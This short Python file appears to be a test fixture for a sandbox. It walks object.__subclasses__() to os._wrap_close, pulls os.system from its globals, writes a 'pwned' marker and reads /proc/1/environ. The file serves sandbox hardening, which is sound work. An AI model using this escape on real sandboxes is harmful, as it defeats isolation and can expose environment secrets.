"""Classic escape: walk object.__subclasses__() to os._wrap_close and call os.system through its globals."""
# expect: found _wrap_close
# expect: system returned
for cls in object.__subclasses__():
    if cls.__name__ == "_wrap_close":
        print("found _wrap_close")
        system = cls.__init__.__globals__["system"]
        rc = system("echo pwned > {{SENTINEL}}/subclasses; cat /proc/1/environ")
        print("system returned", rc)
        break
